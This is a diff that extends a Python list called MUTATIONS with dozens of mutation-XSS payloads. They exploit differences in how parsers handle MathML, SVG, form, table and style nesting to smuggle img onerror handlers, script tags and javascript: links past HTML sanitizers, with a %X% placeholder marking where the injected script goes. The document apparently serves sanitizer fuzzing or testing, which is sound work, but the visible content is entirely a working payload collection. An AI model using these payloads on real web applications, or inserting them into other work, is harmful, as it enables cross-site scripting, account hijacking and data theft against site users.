@@ -77,6 +77,15 @@ FOREIGN = [
 
 # What one parser reads as text and another as elements.
 MUTATIONS = [
+    # Around the elements of formulas that stay.
+    "<math alttext='<img src=x onerror=%X%>'></math>", "<math alttext=\"--><img src=x onerror=%X%>\"><mi>x</mi></math>", "<math><mi></math><img src=x onerror=%X%></mi></math>",
+    "<math><mi><p><style><!--</style><img title='--&gt;&lt;img src=1 onerror=%X%&gt;'></mi></math>", "<math><mrow><style><a title='</style><img src=1 onerror=%X%>'></style></mrow></math>",
+    "<math><mtable><mtr><mtd><table><td><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=%X%&gt;'>", "<table><tr><math><mtd><td><mi><img src=x onerror=%X%></math></table>",
+    "<math><mo><svg><desc><math><mi><mglyph><style></math><img src onerror=%X%>", "<math><mn><option><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=%X%&gt;'></option>",
+    "<p><math><mtext><p><math><mtext><mglyph><style></p><img src=x onerror=%X%>", "<math><mfrac><mi>&lt;img src=x onerror=%X%&gt;</mi><ms>&lt;/math&gt;&lt;script&gt;%X%&lt;/script&gt;</ms></mfrac></math>",
+    "<math><mspace><img src=x onerror=%X%></mspace><none><script>%X%</script></none></math>", "<math display=block style='position:fixed' onclick=%X%><mi href=javascript:%X% onclick=%X% tabindex=1>x</mi></math>",
+    "<math><semantics><mi>x</mi><annotation-xml encoding=text/html><math><mi><img src=x onerror=%X%></mi></math></annotation-xml></semantics></math>", "<math><a><mi>x</mi><img src=x onerror=%X%></a></math>",
+    "<b><math><mi><p></b><math><mtext></p><img src=x onerror=%X%>", "<math><mi id=a name=b><form><math><mtext></form><form><mglyph><style></math><img src onerror=%X%></mi></math>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=%X%&gt;'>", "<math><mtext><table><mglyph><style><math><img src onerror=%X%>", "<math><mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=%X% src=1>'>",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=%X%>", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=%X% src>\">", "<form><math><mtext><form><mglyph><style><img src=x onerror=%X%></style>", "<svg></p><style><a id=\"</style><img src=1 onerror=%X%>\">", "<svg></br><style><a id=\"</style><img src=1 onerror=%X%>\">",
     "<svg><style><a id=\"</style><img src=1 onerror=%X%>\">", "<math></p><style><a title=\"</style><img src=1 onerror=%X%>\">", "<svg><p><style><a id=\"</style><img src=1 onerror=%X%>\">", "<svg></p><title><a id=\"</title><img src=1 onerror=%X%>\">", "<svg></p><textarea><a id=\"</textarea><img src=1 onerror=%X%>\">", "<svg></p><noscript><a id=\"</noscript><img src=1 onerror=%X%>\">",
